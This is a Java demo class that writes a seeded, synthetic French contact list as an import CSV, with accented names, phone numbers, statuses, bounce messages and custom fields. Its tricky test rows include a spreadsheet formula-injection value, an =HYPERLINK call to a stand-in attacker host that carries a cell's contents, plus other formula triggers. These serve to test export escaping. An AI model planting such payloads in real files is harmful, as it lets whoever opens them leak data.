package org.contactexport.launcher.demo;

import java.io.IOException;
import java.io.Writer;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.List;
import java.util.Random;

/**
 * Writes a realistic French contact base as an import CSV (field keys as header, `,`, RFC 4180):
 * accented names, companies, E.164 mobiles, every status and bounce category, custom fields, and
 * first the tricky values that broke other products' exports. Seeded, so a size always gives the
 * same base.
 */
public final class FrenchContacts {

    static final List<String> CUSTOM_FIELDS = List.of(
            "city:Ville:City:text",
            "postcode:Code postal:Postcode:text",
            "loyalty_points:Points de fidélité:Loyalty points:number",
            "birthday:Date de naissance:Birthday:date",
            "notes:Notes:Notes:text");

    static final String HEADER = "email,first_name,last_name,company,email_optin,email_status,"
            + "mobile,sms_optin,mobile_status,created_at,updated_at,activity_level,"
            + "bounce_category,bounce_detail,do_not_track,custom.city,custom.postcode,"
            + "custom.loyalty_points,custom.birthday,custom.notes,origin,origin_detail";

    private static final String[] FIRST_NAMES = {
        "Hélène", "Zoë", "Éloïse", "François", "Jérôme", "Gaëlle", "Anaïs",
        "Benoît", "Céline", "Loïc", "Maëlys", "Noël", "Chloé", "Léa", "Théo",
        "Inès", "Raphaël", "Mathéo", "Agnès", "Jean", "Marie", "Camille", "Lucas",
        "Emma", "Hugo", "Manon", "Louis", "Clémence", "Ophélie", "Aurélien",
        "Sébastien", "Amélie", "Joël", "Rémi", "Cécile", "Frédéric"};
    private static final String[] LAST_NAMES = {
        "Lefèvre", "Martin", "Bernard", "Dubois", "Durand", "Lefebvre", "Moreau", "Girard",
        "Gauthier", "Rousseau", "Fontaine", "Chevalier", "Bénard", "Gérard", "Côté", "Leroy",
        "Faure", "Mercier", "Boyer", "Garnier", "Lemaître", "Perrin", "Morin", "Nguyen",
        "Da Silva", "Haddad", "O'Connor", "Le Goff", "Müller", "Dupré"};
    private static final String[] COMPANIES = {
        "", "", "", "Boulangerie Lefèvre", "SARL Les Délices", "Martin, Dupont & Fils",
        "Café; Bar Léon", "O'Neil Ltd", "Éditions du Rhône", "Garage \"Chez Paulo\"",
        "Fleurs & Cie", "SAS Côté Jardin", "Crédit Régional", "Hôtel de l'Étoile"};
    private static final String[] CITIES = {
        "Paris", "Lyon", "Marseille", "Lille", "Nantes", "Bordeaux", "Saint-Étienne",
        "Besançon", "Orléans", "Nîmes", "Bourg-en-Bresse", "Ajaccio"};
    private static final String[] POSTCODES = {
        "75011", "69003", "13001", "59000", "44000", "33000", "42000", "25000", "45000",
        "30000", "01000", "20000"};
    private static final String[][] HARD_BOUNCES = {
        {"unknown_user", "550 5.1.1 <{e}>: Recipient address rejected: User unknown"},
        {"bad_alias", "550 5.1.1 The email account that you tried to reach does not exist"},
        {"bad_domain", "550 5.1.2 Host or domain name not found. Name service error"},
        {"rejected", "554 5.7.1 Service unavailable; client host blocked using a blocklist"}};
    private static final String[][] SOFT_BOUNCES = {
        {"soft", "452 4.2.2 Mailbox full"},
        {"absent", "Réponse automatique : absent du bureau jusqu'au 3 janvier"},
        {"soft", "421 4.7.0 Try again later, closing connection"}};

    /** Values from real export bug reports: formulas, separators, quotes, line breaks. */
    private static final String[] TRICKY_ROWS = {
        "paul.durand@example.org,"
            + "\"=HYPERLINK(\"\"http://attacker.example/?x=\"\"&A2,\"\"Click\"\")\","
            + "Durand,ACME,true,valid,+33612345678,true,valid,,,3,,,false,Lyon,01000,-20,,,,",
        "ines.roux@example.org,@SUM(1+1),Roux,-2+3,true,valid,+353871234567,false,valid,,,2,,,"
            + "false,Dublin,D02 X285,15,,,,",
        "eve.morel@example.org,=1+1,Morel,+1-1,true,valid,,,,,,1,,,false,Nantes,44000,,,,,",
        "jeanne.martin@example.org,Jeanne,Martin,\"Martin, Dupont & Fils\",true,valid,,,,,,4,,,"
            + "false,Lyon,69003,12,1985-04-12,\"Prefers \"\"Jeanne\"\" not \"\"Jeannette\"\"\","
            + "web_form,Page contact",
        "luc.bernard@example.org,Luc,Bernard,\"Café; Bar Léon\",true,valid,,,,,,0,,,false,"
            + "Paris,75011,,,\"Line one\nLine two\",,",
        ",,,,,,+33611223344,true,valid,,,0,,,false,,,,,,sms_keyword,FLEURS"};

    private static final String[] WEB_FORMS = {
        "Inscription newsletter", "Jeu concours de Noël", "Page contact"};

    private final Random random;

    public FrenchContacts(long seed) {
        this.random = new Random(seed);
    }

    /** Writes the header and {@code count} contacts, the tricky ones first. */
    public void write(Writer out, int count) throws IOException {
        out.write(HEADER);
        out.write("\r\n");
        int tricky = Math.min(count, TRICKY_ROWS.length);
        for (int i = 0; i < tricky; i++) {
            out.write(TRICKY_ROWS[i]);
            out.write("\r\n");
        }
        StringBuilder row = new StringBuilder(256);
        for (int i = tricky; i < count; i++) {
            row.setLength(0);
            appendContact(row, i);
            row.append("\r\n");
            out.append(row);
        }
    }

    private void appendContact(StringBuilder row, int index) {
        String first = pick(FIRST_NAMES);
        String last = pick(LAST_NAMES);
        boolean hasEmail = random.nextInt(100) < 95;
        boolean hasMobile = !hasEmail || random.nextInt(100) < 60;
        String email = hasEmail ? ascii(first) + "." + ascii(last) + "." + index + "@example.org"
                : "";
        int city = random.nextInt(CITIES.length);
        Instant created = Instant.parse("2023-01-01T08:00:00Z")
                .plus(random.nextInt(1_000 * 24 * 60), ChronoUnit.MINUTES);
        Instant updated = created.plus(random.nextInt(200 * 24 * 60), ChronoUnit.MINUTES);

        field(row, email).append(',');
        field(row, first).append(',');
        field(row, last).append(',');
        field(row, pick(COMPANIES)).append(',');
        String emailStatus = appendEmailState(row, hasEmail);
        appendMobileState(row, hasMobile);
        row.append(created).append(',').append(updated).append(',');
        row.append(random.nextInt(6)).append(',');
        appendBounce(row, emailStatus, email);
        row.append(random.nextInt(100) < 3).append(',');
        field(row, CITIES[city]).append(',');
        row.append(POSTCODES[city]).append(',');
        row.append(random.nextInt(4) == 0 ? "" : String.valueOf(random.nextInt(5_000)))
                .append(',');
        row.append(random.nextInt(3) == 0 ? ""
                : String.format("%d-%02d-%02d", 1950 + random.nextInt(55),
                        1 + random.nextInt(12), 1 + random.nextInt(28))).append(',');
        boolean noted = random.nextInt(50) == 0;
        field(row, noted ? "Client fidèle, préfère être appelé le matin" : "").append(',');
        appendOrigin(row);
    }

    /** Appends origin and origin_detail: where the contact came from. */
    private void appendOrigin(StringBuilder row) {
        int dice = random.nextInt(100);
        if (dice < 40) {
            row.append("web_form,").append(pick(WEB_FORMS));
        } else if (dice < 75) {
            row.append("import,").append("Fichier salon 2024");
        } else if (dice < 88) {
            row.append("api,");
        } else if (dice < 95) {
            row.append("manual,");
        } else {
            row.append("sms_keyword,FLEURS");
        }
    }

    /** Appends email_optin and email_status; returns the status ("" without an email). */
    private String appendEmailState(StringBuilder row, boolean hasEmail) {
        if (!hasEmail) {
            row.append(",,");
            return "";
        }
        int dice = random.nextInt(100);
        String emailStatus = dice < 78 ? "valid"
                : dice < 86 ? "unsubscribed"
                : dice < 92 ? "bounced"
                : dice < 93 ? "complained"
                : "unconfirmed";
        boolean optin = "valid".equals(emailStatus) || "unconfirmed".equals(emailStatus);
        row.append(optin).append(',').append(emailStatus).append(',');
        return emailStatus;
    }

    private void appendMobileState(StringBuilder row, boolean hasMobile) {
        if (!hasMobile) {
            row.append(",,,");
            return;
        }
        String mobile = "+33" + (6 + random.nextInt(2))
                + String.format("%08d", random.nextInt(100_000_000));
        int dice = random.nextInt(100);
        String status = dice < 85 ? "valid" : dice < 95 ? "unsubscribed" : "invalid";
        row.append(mobile).append(',').append("valid".equals(status)).append(',')
                .append(status).append(',');
    }

    private void appendBounce(StringBuilder row, String emailStatus, String email) {
        String[] bounce = null;
        if ("bounced".equals(emailStatus)) {
            bounce = HARD_BOUNCES[random.nextInt(HARD_BOUNCES.length)];
        } else if (!emailStatus.isEmpty() && random.nextInt(100) < 4) {
            bounce = SOFT_BOUNCES[random.nextInt(SOFT_BOUNCES.length)];
        }
        if (bounce == null) {
            row.append(",,");
            return;
        }
        row.append(bounce[0]).append(',');
        field(row, bounce[1].replace("{e}", email)).append(',');
    }

    private String pick(String[] values) {
        return values[random.nextInt(values.length)];
    }

    private static StringBuilder field(StringBuilder row, String value) {
        boolean quote = value.indexOf(',') >= 0 || value.indexOf('"') >= 0
                || value.indexOf('\n') >= 0 || value.indexOf('\r') >= 0;
        if (!quote) {
            return row.append(value);
        }
        return row.append('"').append(value.replace("\"", "\"\"")).append('"');
    }

    private static String ascii(String name) {
        String plain = java.text.Normalizer.normalize(name, java.text.Normalizer.Form.NFD)
                .replaceAll("\\p{M}", "");
        return plain.toLowerCase(java.util.Locale.ROOT).replaceAll("[^a-z]", "");
    }
}
